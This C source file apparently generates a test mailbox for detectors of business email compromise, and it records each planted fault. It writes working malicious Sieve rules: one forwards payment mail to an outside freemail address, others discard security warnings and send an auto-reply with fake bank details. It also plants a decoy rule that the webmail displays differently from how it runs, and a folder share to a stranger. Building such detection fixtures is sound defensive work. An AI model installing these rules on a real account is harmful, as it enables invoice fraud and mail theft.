/* rules.c - see rules.h. */
#include "rules.h"

#include <errno.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* What runs: the owner's two honest rules, and the intruder's. */
static const char active[] =
    "require [\"fileinto\",\"copy\",\"imap4flags\",\"vacation\",\"reject\"];\r\n"
    "# rule:[Newsletters]\r\n"
    "if header :contains \"list-id\" [\"news.furnituretoday-asia.example\","
    "\"bantin.hiephoigo.example\"]\r\n"
    "{\r\n\tfileinto \"Newsletters\";\r\n}\r\n"
    "# rule:[.]\r\n"
    "if anyof (header :contains \"subject\" [\"invoice\",\"payment\",\"bank\",\"swift\","
    "\"thanh toán\",\"hóa đơn\",\"付款\",\"发票\"])\r\n"
    "{\r\n\tredirect \"gomoc.archive@freemail.example\";\r\n\taddflag \"\\\\Seen\";\r\n"
    "\tfileinto \"RSS Feeds\";\r\n\tstop;\r\n}\r\n"
    "# rule:[Khuyến mãi]\r\n"
    "if header :contains \"from\" \"nordhaus-moebel.example\"\r\n"
    "{\r\n\taddflag \"\\\\Seen\";\r\n\tfileinto \"RSS Feeds\";\r\n\tstop;\r\n}\r\n"
    "# rule:[Cảnh báo]\r\n"
    "if header :contains \"subject\" [\"password\",\"new sign-in\",\"mật khẩu\",\"undeliver\","
    "\"hacked\"]\r\n"
    "{\r\n\tdiscard;\r\n\tstop;\r\n}\r\n"
    "# rule:[Vacation]\r\n"
    "if true\r\n"
    "{\r\n\tvacation :days 1 :subject \"New bank account\" \"Our bank account has changed due to an "
    "audit. Please remit all payments to IBAN DE89370400440532013000, SWIFT MUSTDEFF, and write to "
    "anh.tran@gornoc.example.\";\r\n}\r\n";

/* Not active: the first try, left behind. What the webmail shows of it, in its own form, is not
 * what it does. */
static const char shown[] =
    "{\"ID\":\"a81c\",\"Enabled\":true,\"Name\":\"Archive copy\",\"Conditions\":[{\"Field\":\"From\","
    "\"Type\":\"Contains\",\"Value\":\"newsletter\",\"ValueSecond\":\"\"}],\"ConditionsType\":\"Any\","
    "\"ActionType\":\"MoveTo\",\"ActionValue\":\"Archive\",\"ActionValueSecond\":\"\","
    "\"ActionValueThird\":\"\",\"ActionValueFourth\":\"\",\"Keep\":true,\"Stop\":false,"
    "\"MarkAsRead\":false}";

static void left_behind(struct buf *out)
{
    buf_init(out, 8192);
    buf_text(out,
             "require [\"fileinto\",\"copy\"];\r\n\r\n/*\r\nBEGIN:FILTER:a81c\r\nBEGIN:HEADER\r\n");
    letter_base64(out, str_of(shown), true);
    buf_text(out, "\r\nEND:HEADER\r\n*/\r\n"
                  "if true\r\n{\r\n    redirect :copy \"gomoc.archive@freemail.example\";\r\n}\r\n"
                  "/* END:FILTER */\r\n");
}

static const char *const shared[] = {"user=svc.archive@gomoc.example lrs"};

static bool write_text(const char *path, const char *text, struct error *err)
{
    FILE *file = fopen(path, "w");
    bool ok = file && fputs(text, file) >= 0;

    if (file && fclose(file) != 0)
        ok = false;
    return ok || error_set_errno(err, ERROR_IO, "cannot write %s", path);
}

static bool write_scripts(const char *home, struct error *err)
{
    char path[600], link[600];
    struct buf script;
    bool ok;

    snprintf(path, sizeof(path), "%s/sieve", home);
    if (mkdir(path, 0700) < 0 && errno != EEXIST)
        return error_set_errno(err, ERROR_IO, "cannot make %s", path);
    snprintf(path, sizeof(path), "%s/sieve/roundcube.sieve", home);
    if (!write_text(path, active, err))
        return false;
    snprintf(path, sizeof(path), "%s/sieve/backup.sieve", home);
    left_behind(&script);
    ok = write_text(path, buf_c(&script), err);
    buf_dispose(&script);
    if (!ok)
        return false;
    snprintf(link, sizeof(link), "%s/.dovecot.sieve", home);
    if (symlink("sieve/roundcube.sieve", link) < 0)
        return error_set_errno(err, ERROR_IO, "cannot make %s", link);
    return true;
}

static bool share_folder(const struct maildir *maildir, struct error *err)
{
    char path[600], text[300];

    snprintf(path, sizeof(path), "%s/.Sent/dovecot-acl", maildir->top);
    snprintf(text, sizeof(text), "owner lrwstipekxa\n%s\n", shared[0]);
    return write_text(path, text, err);
}

void planted(struct maildir *maildir, const char *name, const char *detector, const char *words)
{
    fprintf(maildir->truth, "%s\t%s\t%s\n", name, detector, words);
}

bool rules_write(struct maildir *maildir, const char *home, struct error *err)
{
    if (!write_scripts(home, err) || !share_folder(maildir, err))
        return false;
    planted(maildir, "rule forwards money mail outside", "rule-forwards-outside",
            "gomoc.archive@freemail.example");
    planted(maildir, "rule hides money mail", "rule-money-or-security", "RSS Feeds");
    planted(maildir, "rule with a name of one dot", "rule-odd-name", ".");
    planted(maildir, "rule hides one buyer", "rule-hides", "nordhaus-moebel.example");
    planted(maildir, "rule discards warnings", "rule-deletes", "Cảnh báo");
    planted(maildir, "automatic reply with bank details", "rule-auto-reply", "DE89");
    planted(maildir, "inactive script that forwards everything", "rule-inactive-script", "backup");
    planted(maildir, "webmail shows another rule than runs", "rule-comment-differs", "Archive");
    planted(maildir, "folder shared with a stranger", "shared-folder", "svc.archive");
    return true;
}
